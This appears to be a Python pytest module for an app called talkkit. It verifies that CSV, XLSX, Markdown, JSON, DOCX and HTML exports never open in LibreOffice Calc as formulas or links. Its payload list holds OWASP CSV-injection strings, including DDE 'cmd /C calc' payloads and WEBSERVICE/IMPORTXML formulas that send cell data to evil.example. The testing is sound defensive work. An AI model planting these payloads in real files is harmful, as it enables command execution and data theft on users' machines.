"""No export and no report ever becomes a formula or a link, opened in LibreOffice Calc.

Every field of every group export (CSV, XLSX, Markdown, JSON, DOCX) and of the event report
(HTML, DOCX) holds one payload of a list that includes OWASP's CSV-injection examples, each
payload also behind every separator and line break, and control characters. The text files are
opened in Calc with ``,``, ``;`` and tab as separator (as an English, Danish or Swedish
spreadsheet does), the XLSX as a workbook, the HTML report with Calc's HTML import; the cells
LibreOffice made are counted. Calc has no DOCX reader in ``libreoffice-calc-nogui``: the Word
files are read with python-docx and searched for fields and links.
"""

from __future__ import annotations

import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from docx import Document
from office import HTML_FILTER, SEPARATORS, convert, csv_filter, read_sheet

from talkkit import report
from talkkit.export import EXPORTERS, build_export_doc
from talkkit.export.cells import csv_unguard
from talkkit.export.doc import Takeaway
from talkkit.export.text import xml_safe
from talkkit.i18n import translator
from talkkit.kit import Kit, Phase, Prompt
from talkkit.store import Event, Session

#: OWASP's CSV-injection examples (owasp.org/www-community/attacks/CSV_Injection) and more.
OWASP = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    '=HYPERLINK("http://evil.example";"click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    "=1+1;=2+2",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u200b\u200b=1+1",
]
#: Where a cell may start when the file is opened with another separator.
WRAPS = ["x,{}", "x;{}", "x\t{}", "x\n{}", "x\r\n{}", 'x, "{}"', 'x,"{}', "x,,{}", '"x";"{}"']
CONTROLS = [chr(c) + "=1+1" for c in range(0x20)] + ["\x7f=1+1", "\ufffe=1+1", "\uffff=1+1"]
CONTROLS += ["\ud800=1+1", "x,\x00=1+1", "x\x00,=1+1", "x;\x00\x01=1"]
LINKS = ["http://evil.example", "www.evil.example", "mailto:a@evil.example", "a@evil.example"]
PAYLOADS = OWASP + [w.format(p) for w in WRAPS for p in OWASP[:6]] + CONTROLS + LINKS

NOW = datetime(2025, 5, 1, tzinfo=UTC)
NOTE = translator("da")(
    "Note: some characters cannot be kept in this file and are shown as \ufffd. "
    "The JSON export keeps them."
)
REPORT_NOTE = translator("da", "events")(
    "Note: some characters cannot be kept in this file and are shown as \ufffd."
)


def kit(payload: str) -> Kit:
    return Kit(
        folder=Path(),
        id="k",
        title=payload,
        topic="k",
        summary="",
        languages=("da",),
        format="",
        talks=(),
        agenda=(
            Phase("p", "productive-conversation", payload, 10, prompts=(Prompt("q", payload),)),
        ),
    )


def docs() -> list:
    out = []
    for n, p in enumerate(PAYLOADS):
        session = Session(f"s{n}", "k", "da", None, p, p, None, NOW, NOW)
        answers = {
            "p.q": p,
            "p.q.views": p,
            "takeaways": [{"what": p, "who": p, "when": p}],
            "questions": [p],
            "evaluation.useful": p,
            "facilitator.notes": p,
            p: p,  # an answer whose key the kit does not know
        }
        out.append(build_export_doc(kit(p), session, answers, "da", generated_at=NOW))
    return out


def event_report() -> report.Report:
    sections = []
    for n, p in enumerate(PAYLOADS):
        sections.append(
            report.EventSection(
                event=Event(f"e{n}", "k", p, "da", "ABCDEFGHJKMN", NOW),
                kit_title=p,
                groups=[(p, p)],
                points=[p],
                takeaways=[(p, Takeaway(p, p, p))],
                questions=[(p, p)],
                evaluation=[
                    report.QuestionSummary("useful", "rating", p, (1, 0, 0, 0, 1), (p,)),
                    report.QuestionSummary("improve", "text", p, (), (p,)),
                ],
            )
        )
    return report.Report("da", NOW, sections, combined=list(sections[0].evaluation))


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("formulas")
    all_docs = docs()
    out = {}
    for name, exporter in EXPORTERS.items():
        out[name] = folder / f"answers-{name}{exporter.extension}"
        out[name].write_bytes(exporter.export(all_docs))
    built = event_report()
    out["report-html"] = folder / "report.html"
    out["report-html"].write_bytes(report.to_html(built).encode("utf-8"))
    out["report-docx"] = folder / "report.docx"
    out["report-docx"].write_bytes(report.to_docx(built))
    return out


@pytest.fixture(scope="module")
def opened(files: dict[str, Path], tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    """Every file as Calc opens it: ``{"csv/comma": Sheet, ..., "xlsx": ..., "report-html": ...}``.
    Five soffice calls: one per separator for the three text files, one for the workbook, one
    for the HTML."""
    root = tmp_path_factory.mktemp("calc")
    sheets = {}
    texts = [files["csv"], files["json"], files["md"]]
    for sep_name, code in SEPARATORS.items():
        # Calc picks the import by the extension: give every text file a .csv name
        copies = []
        for f in texts:
            copy = root / sep_name / f"{f.suffix[1:]}.csv"
            copy.parent.mkdir(parents=True, exist_ok=True)
            copy.write_bytes(f.read_bytes())
            copies.append(copy)
        for f, ods in zip(
            texts, convert(copies, root / sep_name, infilter=csv_filter(code)), strict=True
        ):
            sheets[f"{f.suffix[1:]}/{sep_name}"] = read_sheet(ods)
    (ods,) = convert([files["xlsx"]], root / "xlsx", infilter=None)
    sheets["xlsx"] = read_sheet(ods)
    (ods,) = convert([files["report-html"]], root / "html", infilter=HTML_FILTER)
    sheets["report-html"] = read_sheet(ods)
    return sheets


@pytest.mark.timeout(600)
def test_no_file_opened_in_calc_has_a_formula_or_a_link(opened) -> None:
    """Opened in LibreOffice Calc with any separator, does any export or report have a single
    formula cell or link?"""
    counts = {name: (len(s.formulas), s.links) for name, s in opened.items()}
    print("formula cells, links per file as Calc opens it:", counts)
    assert len(opened) == 3 * 3 + 2
    for name, sheet in opened.items():
        assert sum(len(row) for row in sheet.cells) > len(PAYLOADS), name  # Calc read the file
        assert sheet.formulas == [], (name, sheet.formulas[:5])
        assert sheet.links == 0, name


@pytest.mark.timeout(600)
def test_calc_shows_every_character_of_the_csv(opened, files) -> None:
    """Opened with ';' (the file's own separator), does Calc show each answer exactly as the
    csv module reads it (nothing dropped: controls arrive as a visible U+FFFD), and does
    removing the guard give back the typed text?"""
    import csv
    import io

    text = files["csv"].read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    calc = opened["csv/semicolon"].cells
    answers = [r[7] for r in rows[1:] if len(r) > 7 and r[5] == "p.q"]
    shown = {c[7] for c in calc[1:] if len(c) > 7}
    assert len(answers) == len(PAYLOADS)
    for payload, answer in zip(PAYLOADS, answers, strict=True):
        assert answer.replace("\r\n", "\n").replace("\r", "\n") in shown, repr(payload)
        assert csv_unguard(answer) == xml_safe(payload)
    assert "\ufffd" in "".join(shown)
    assert any(row and row[0] == NOTE for row in calc)  # the note row


def _fields_and_links(path: Path) -> list[str]:
    """Field codes, hyperlinks and external relationships in a Word file (its XML)."""
    found = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if not name.endswith((".xml", ".rels")):
                continue
            xml = z.read(name)
            for marker in (b"<w:fldSimple", b"<w:instrText", b"<w:fldChar", b"<w:hyperlink"):
                if marker in xml:
                    found.append(f"{name}: {marker.decode()}")
            if b'TargetMode="External"' in xml:
                found.append(f"{name}: external link")
    return found


@pytest.mark.parametrize("name", ["docx", "report-docx"])
def test_word_files_have_no_field_and_no_link(files, name: str) -> None:
    """Does python-docx read every payload as plain text, with no field code or link?"""
    assert _fields_and_links(files[name]) == []
    document = Document(str(files[name]))
    text = "\n".join(p.text for p in document.paragraphs) + "\n".join(
        c.text for t in document.tables for r in t.rows for c in r.cells
    )
    assert "=HYPERLINK(" in text
    assert (NOTE if name == "docx" else REPORT_NOTE) in text
